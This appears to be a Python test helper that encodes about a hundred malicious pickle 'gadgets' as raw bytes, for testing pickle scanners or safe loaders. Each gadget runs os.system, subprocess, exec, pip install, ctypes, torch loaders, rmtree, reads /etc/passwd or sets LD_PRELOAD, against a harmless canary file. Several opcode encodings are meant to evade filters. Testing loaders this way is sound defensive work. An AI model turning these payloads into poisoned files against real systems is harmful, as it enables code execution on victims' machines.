"""Pickles that would run something, as bytes: nothing here is called or even imported.

A gadget is a tree of calls. ``WAYS`` says how the outermost one is written, since pickle has many
operations that end in a call, and a reader that forbids one of them may have missed another.
"""

from __future__ import annotations

import struct
from collections.abc import Callable
from dataclasses import dataclass
from typing import Any

__all__ = ["WAYS", "Call", "Name", "encoded", "gadgets", "tensor", "text"]


@dataclass(frozen=True)
class Name:
    """Of a class or function, such as ``os.system``."""

    module: str
    attribute: str


@dataclass(frozen=True)
class Call:
    function: Any
    arguments: tuple[Any, ...]


def name(dotted: str) -> Name:
    module, _, attribute = dotted.rpartition(".")
    return Name(module, attribute)


def call(dotted: str, *arguments: Any) -> Call:
    return Call(name(dotted), arguments)


def method(of: Call, attribute: str, *arguments: Any) -> Call:
    """Before protocol 4 a pickle cannot name a method, and has to ask ``getattr`` for it."""
    return Call(call("builtins.getattr", of, attribute), arguments)


def text(value: str) -> bytes:
    data = value.encode("utf-8", "surrogatepass")
    return b"X" + struct.pack("<I", len(data)) + data


def number(value: int) -> bytes:
    data = value.to_bytes(value.bit_length() // 8 + 1, "little", signed=True)
    return b"\x8a" + bytes([len(data)]) + data


def encoded(value: Any) -> bytes:
    """The operations that leave a value on pickle's stack; calls by GLOBAL and REDUCE."""
    if isinstance(value, Name):
        return f"c{value.module}\n{value.attribute}\n".encode()
    if isinstance(value, Call):
        return encoded(value.function) + encoded(value.arguments) + b"R"
    if isinstance(value, tuple):
        return b"(" + b"".join(map(encoded, value)) + b"t"
    if isinstance(value, list):
        return b"](" + b"".join(map(encoded, value)) + b"e"
    if isinstance(value, dict):
        return b"}(" + b"".join(encoded(k) + encoded(v) for k, v in value.items()) + b"u"
    if isinstance(value, bytes):
        return b"B" + struct.pack("<I", len(value)) + value
    if isinstance(value, str):
        return text(value)
    if value is None or isinstance(value, bool):
        return {None: b"N", True: b"\x88", False: b"\x89"}[value]
    return number(value)


def tensor(
    sizes: tuple[int, ...] = (4,),
    strides: tuple[int, ...] = (1,),
    offset: int = 0,
    key: str = "0",
    count: int = 4,
    kind: str = "FloatStorage",
) -> bytes:
    """A tensor as torch.save has it; all numbers may be wrong."""
    identity = ("storage", Name("torch", kind), key, "cpu", count)
    parts = (offset, sizes, strides, False, call("collections.OrderedDict"))
    return (
        encoded(name("torch._utils._rebuild_tensor_v2"))
        + b"("
        + encoded(identity)
        + b"Q"
        + b"".join(map(encoded, parts))
        + b"tR"
    )


def _flat(value: Call) -> bytes:
    return b"".join(map(encoded, value.arguments))


def _line(function: Any) -> bytes:
    return f"{function.module}\n{function.attribute}\n".encode()


def _stack_global(value: Call) -> bytes:
    named = text(value.function.module) + text(value.function.attribute) + b"\x93"
    return named + encoded(value.arguments) + b"R"


def _build(value: Call) -> bytes:
    """``__setstate__`` of an object becomes the function, and its state the argument."""
    target = encoded(name("argparse.Namespace")) + b")\x81"
    return target + encoded({"__setstate__": value.function}) + b"b" + _flat(value) + b"b"


WAYS: dict[str, Callable[[Call], bytes]] = {
    "REDUCE": encoded,
    "STACK_GLOBAL": _stack_global,
    "INST": lambda value: b"(" + _flat(value) + b"i" + _line(value.function),
    "OBJ": lambda value: b"(" + encoded(value.function) + _flat(value) + b"o",
    "NEWOBJ": lambda value: encoded(value.function) + encoded(value.arguments) + b"\x81",
    "NEWOBJ_EX": lambda value: encoded(value.function) + encoded(value.arguments) + b"}\x92",
    "BUILD": _build,
    "MEMO": lambda value: (
        encoded(value.function) + b"q\x000" + encoded(value.arguments) + b"q\x010h\x00h\x01R"
    ),
    "GLOBAL alone": lambda value: encoded(value.function),
}


def gadgets(canary: str) -> dict[str, Call]:
    """Known families of what a pickle can do by itself, each of which would make a file.

    Args:
        canary: path of the file that would be made.
    """
    shell = f"touch {canary}"
    python = f"open({canary!r}, 'w').close()"
    script = f"{canary}.py"
    words = ["touch", canary]
    module = call("importlib.import_module", "os")
    inner = b"\x80\x02" + encoded(call("posix.system", shell)) + b"."
    code = call("builtins.compile", python, "x", "exec")
    return {
        "os.system": call("os.system", shell),
        "posix.system": call("posix.system", shell),
        "nt.system": call("nt.system", shell),
        "os.popen": call("os.popen", shell),
        "os.execvp": call("os.execvp", "touch", words),
        "os.spawnvp": call("os.spawnvp", 0, "touch", words),
        "os.posix_spawn": call("posix.posix_spawn", "/usr/bin/touch", words, {}),
        "os.open": call("os.open", canary, 65),
        "subprocess.Popen": call("subprocess.Popen", words),
        "subprocess.check_output": call("subprocess.check_output", words),
        "subprocess.run": call("subprocess.run", words),
        "subprocess.getoutput": call("subprocess.getoutput", shell),
        "builtins.eval": call("builtins.eval", python),
        "builtins.exec": call("builtins.exec", python),
        "builtins.compile": call("builtins.exec", code),
        "__builtin__.eval": call("__builtin__.eval", python),
        "builtins.__import__": Call(
            call("builtins.getattr", call("builtins.__import__", "os"), "system"), (shell,)
        ),
        "builtins.open": call("builtins.open", canary, "w"),
        "io.open": call("io.open", canary, "w"),
        "_io.FileIO": call("_io.FileIO", canary, "w"),
        "builtins.getattr": Call(call("builtins.getattr", name("os.path"), "system"), (shell,)),
        "builtins.map": call("builtins.list", call("builtins.map", name("os.system"), [shell])),
        "builtins.breakpoint": call("builtins.breakpoint"),
        "importlib.import_module": Call(call("builtins.getattr", module, "system"), (shell,)),
        "runpy.run_path": call("runpy.run_path", script),
        "runpy._run_code": call("runpy._run_code", code, {}),
        "pty.spawn": call("pty.spawn", words),
        "socket.create_connection": call("socket.create_connection", ("127.0.0.1", 9)),
        "urllib.request.urlretrieve": call(
            "urllib.request.urlretrieve", f"file://{script}", canary
        ),
        "webbrowser.open": call("webbrowser.open", f"file://{canary}"),
        "webbrowser.GenericBrowser": Call(
            call("builtins.getattr", call("webbrowser.GenericBrowser", "touch"), "open"), (canary,)
        ),
        "pickle.loads": call("pickle.loads", inner),
        "_pickle.loads": call("_pickle.loads", inner),
        "marshal.loads": call("marshal.loads", b"c\x00"),
        "functools.partial": Call(call("functools.partial", name("os.system"), shell), ()),
        "functools.reduce": call("functools.reduce", name("os.system"), [shell], shell),
        "operator.attrgetter": Call(
            Call(call("operator.attrgetter", "system"), (module,)), (shell,)
        ),
        "operator.methodcaller": Call(call("operator.methodcaller", "system", shell), (module,)),
        "types.CodeType": call("types.CodeType", 0, 0, 0, 0, 0, 0, b"", (), (), (), "x", "x", 1),
        "types.FunctionType": Call(call("types.FunctionType", code, {}), ()),
        "numpy.testing runstring": call("numpy.testing._private.utils.runstring", python, {}),
        "numpy.load": call("numpy.load", canary, None, True),
        "numpy.ctypeslib": call("numpy.ctypeslib.load_library", canary, "/"),
        "numpy.f2py": call("numpy.f2py.crackfortran.getlincoef", python, {}),
        "torch.hub.load": call("torch.hub.load", canary, "x"),
        "torch.load": call("torch.load", f"{canary}.pt", "cpu", None),
        "torch.jit.load": call("torch.jit.load", f"{canary}.pt"),
        "torch.package": call("torch.package.PackageImporter", f"{canary}.pt"),
        "torch.ops.load_library": call("torch._ops.ops.load_library", f"{canary}.so"),
        "torch.classes.load_library": call("torch._classes.classes.load_library", f"{canary}.so"),
        "torch._inductor.codecache": call("torch._inductor.codecache.PyCodeCache.load", python),
        "torch._inductor.runtime": call(
            "torch._inductor.runtime.compile_tasks._reload_python_module", "x", script
        ),
        "torch.utils.cpp_extension": call("torch.utils.cpp_extension.load_inline", "x", python),
        "torch.utils._config_module": call(
            "torch.utils._config_module.ConfigModule.load_config", None, inner
        ),
        "torch.distributed.rpc": call("torch.distributed.rpc.internal._run_function", inner),
        "torch.fx": call("torch.fx.graph_module._exec_with_source", python, {}),
        "torch._dynamo.guards": call("torch._dynamo.guards.GuardBuilder.get", python),
        "torch.serialization": call(
            "torch.serialization._legacy_load", canary, None, name("pickle.x")
        ),
        "ctypes.CDLL": call("ctypes.CDLL", f"{canary}.so"),
        "shutil.rmtree": call("shutil.rmtree", f"{canary}-kept"),
        "shutil.copyfile": call("shutil.copyfile", script, canary),
        "os.remove": call("posix.remove", f"{canary}-kept"),
        "os.symlink": call("posix.symlink", script, canary),
        "pathlib.write_text": method(call("pathlib.Path", canary), "write_text", "x"),
        "pathlib.touch": method(call("pathlib.PosixPath", canary), "touch"),
        "code.interact": call("code.interact", python),
        "code.InteractiveInterpreter": method(
            call("code.InteractiveInterpreter"), "runsource", python
        ),
        "bdb.Bdb.run": method(call("bdb.Bdb"), "run", python),
        "pdb.run": call("pdb.run", python),
        "timeit.timeit": call("timeit.timeit", "pass", python),
        "trace.Trace.run": method(call("trace.Trace"), "run", python),
        "cProfile.run": call("cProfile.run", python),
        "profile.run": call("profile.run", python),
        "asyncio.create_subprocess_shell": call(
            "asyncio.run", call("asyncio.subprocess.create_subprocess_shell", shell)
        ),
        "asyncio._UnixSubprocessTransport": Call(
            name("asyncio.unix_events._UnixSubprocessTransport._start"), (None, shell, True)
        ),
        "pip.main": call("pip.main", ["install", script]),
        "pip._internal": call("pip._internal.cli.main.main", ["install", script]),
        "ensurepip": call("ensurepip._run_pip", ["install", script]),
        "venv.create": call("venv.create", canary),
        "site.execsitecustomize": call("site.addpackage", "/", script, None),
        "pydoc.pipepager": call("pydoc.pipepager", "x", shell),
        "pydoc.locate": call("pydoc.locate", "os.system"),
        "doctest.debug_script": call("doctest.debug_script", python),
        "logging.config": call("logging.config.listen", 9030),
        "logging.config.fileConfig": call("logging.config.fileConfig", script),
        "logging.FileHandler": call("logging.FileHandler", canary),
        "linecache.getlines": call("linecache.getlines", "/etc/passwd"),
        "multiprocessing.util.spawnv_passfds": call(
            "multiprocessing.util.spawnv_passfds", b"/usr/bin/touch", words, ()
        ),
        "multiprocessing.Process": method(
            call("multiprocessing.Process", None, name("os.system")), "start"
        ),
        "threading.Timer": method(call("threading.Timer", 0, name("os.system"), [shell]), "start"),
        "concurrent.futures": call("concurrent.futures.thread._worker", None, None),
        "platform.popen": call("platform.popen", shell),
        "commands.getoutput": call("commands.getoutput", shell),
        "imp.load_source": call("imp.load_source", "x", script),
        "zipimport": call("zipimport.zipimporter", canary),
        "tempfile.mktemp": call("tempfile.NamedTemporaryFile", "w", -1, None, None, canary),
        "sqlite3.connect": call("sqlite3.connect", canary),
        "shelve.open": call("shelve.open", canary),
        "weakref.finalize": call("weakref.finalize", name("os.path"), name("os.system"), shell),
        "atexit.register": call("atexit.register", name("os.system"), shell),
        "signal.signal": call("signal.signal", 14, name("os.abort")),
        "sys.exit": call("sys.exit", 0),
        "os._exit": call("posix._exit", 0),
        "os.kill": call("posix.kill", 0, 0),
        "sys.setrecursionlimit": call("sys.setrecursionlimit", 10),
        "os.environ": Call(name("os.putenv"), ("LD_PRELOAD", canary)),
        "antigravity": call("antigravity.geohash", 1, 2, b"x"),
    }
